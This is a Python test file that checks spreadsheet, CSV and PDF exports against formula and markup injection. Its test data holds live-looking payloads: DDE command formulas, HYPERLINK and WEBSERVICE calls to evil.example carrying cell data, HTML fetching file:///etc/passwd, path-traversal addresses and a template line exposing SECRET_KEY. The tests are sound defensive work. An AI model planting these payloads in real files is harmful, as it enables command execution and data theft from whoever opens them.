"""Nothing that somebody typed runs when an export is opened (R21) or fetches anything (R22)."""

import csv
import io
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest

from config import system
from documents import printing
from documents.tables import Column, Kind
from tests.documents.samples import table
from tests.documents.writing import workbook, written

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "@",
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=WEBSERVICE("http://evil.example")',
    '=IMPORTXML("http://evil.example","//a")',
    "'=1+1",
    '"=1+1',
    ";=1+1",
    "%0A=1+1",
    "|calc",
    "#N/A",
    "#REF!",
    "{=1+1}",
    "=1+1\x00",
    "\x01=1+1",
]
PAYLOADS = [
    '<img src="http://evil.example/a.png">',
    '<link rel="attachment" href="file:///etc/passwd">',
    '<a rel="attachment" href="file:///etc/passwd">x</a>',
    '<link rel="stylesheet" href="http://evil.example/a.css">',
    "<style>@import url(file:///etc/passwd);</style>",
    '<p style="background: url(http://evil.example/b)">x</p>',
    '<object data="file:///etc/passwd"></object>',
    '<svg><image href="http://evil.example/c"/></svg>',
    '"></td><iframe src="http://evil.example"></iframe>',
    "</title><base href='http://evil.example'>",
    "{% include '/etc/passwd' %}{{ settings.SECRET_KEY }}",
    '\\"url(file:///etc/passwd)',
]
TEXTS = (Column("=Codice", "text", Kind.CODE, "=1+1"), Column("+Testo", "text", Kind.TEXT))


def hostile(texts: list[str]):
    return table(
        [],
        columns=TEXTS,
        rows=[{"text": text} for text in texts],
        totals={},
        title="=1+1",
        operation="=1+1",
        filters={"=1": "=1+1"},
        notes=("@SUM(1)",),
    )


def test_no_text_becomes_a_formula_in_a_workbook() -> None:
    book = workbook(hostile(FORMULAS))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), cell.value
    raw = written(hostile(FORMULAS), "xlsx")
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        for name in archive.namelist():
            assert b"<f>" not in archive.read(name)
            assert b"<f " not in archive.read(name)


def test_text_stays_text_when_somebody_edits_the_cell() -> None:
    assert workbook(hostile(["=1+1"])).worksheets[1]["A2"].quotePrefix


def test_the_guard_finds_a_formula_where_there_is_one() -> None:
    book = openpyxl.Workbook()
    book.active["A1"] = "=1+1"  # what openpyxl does with the same text, unguarded
    saved = io.BytesIO()
    book.save(saved)
    assert openpyxl.load_workbook(saved).active["A1"].data_type == "f"


def test_no_field_of_a_csv_begins_like_a_formula() -> None:
    raw = written(hostile(FORMULAS), "csv").decode("utf-8-sig")
    for row in csv.reader(io.StringIO(raw, newline=""), delimiter=";"):
        for field in row:
            bare = field.lstrip(' \t\r\n\u00a0"')
            assert bare[:1] not in tuple("=+-@＝＋－＠|%"), field


def test_a_negative_amount_stays_a_number_in_a_csv() -> None:
    columns = (Column("Importo", "cents", Kind.MONEY),)
    made = table([], columns=columns, rows=[{"cents": -1_050}], totals={})
    assert written(made, "csv").splitlines()[1] == b"-10,50"


@pytest.mark.harness
@pytest.mark.skipif(not system.has_calc(), reason=system.CALC.apt_line)
@pytest.mark.parametrize("format", ["xlsx", "csv"])
def test_libreoffice_finds_no_formula_either(format: str, tmp_path: Path) -> None:
    source = tmp_path / f"hostile.{format}"
    source.write_bytes(written(hostile(FORMULAS), format))
    converted = subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{tmp_path}/profile",
            "--headless",
            *(["--infilter=CSV:59,34,76,1,,0,false,false,false,true"] if format == "csv" else []),
            "--convert-to",
            "fods",
            "--outdir",
            str(tmp_path),
            str(source),
        ],
        capture_output=True,
        timeout=100,
        check=False,
    )
    made = tmp_path / "hostile.fods"
    assert made.exists(), converted.stderr.decode()
    assert "table:formula" not in made.read_text()


@pytest.mark.slow
def test_a_printed_table_fetches_nothing_whatever_its_text() -> None:
    before = printing.fetcher.refused
    raw = written(hostile(PAYLOADS + FORMULAS), "pdf")
    assert printing.fetcher.refused == before, "text is escaped, so nothing is even asked for"
    assert b"root:" not in raw
    assert b"EmbeddedFile" not in raw


@pytest.mark.parametrize(
    "address",
    [
        "file:///etc/passwd",
        "http://localhost/x.png",
        "https://evil.example/x.png",
        "ftp://evil.example/x",
        "asset:../rendering.py",
        "asset:/etc/passwd",
        "asset:fonts/../../models/papers.py",
        "asset://evil.example/eu.svg",
    ],
)
def test_markup_that_gets_through_is_refused_and_counted(address: str) -> None:
    before = printing.fetcher.refused
    printing.lay_out(f'<img src="{address}"><link rel="stylesheet" href="{address}">')
    assert printing.fetcher.refused > before


def test_papers_may_use_our_own_assets_and_inline_pictures() -> None:
    before = printing.fetcher.refused
    printing.lay_out('<img src="asset:eu.svg"><img src="data:image/svg+xml,<svg/>">')
    assert printing.fetcher.refused == before


def test_no_process_loads_weasyprint_before_it_prints() -> None:
    code = "import documents.rendering, documents.writers, sys; print('weasyprint' in sys.modules)"
    asked = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, env=os.environ, check=True
    )
    assert asked.stdout.strip() == "False"
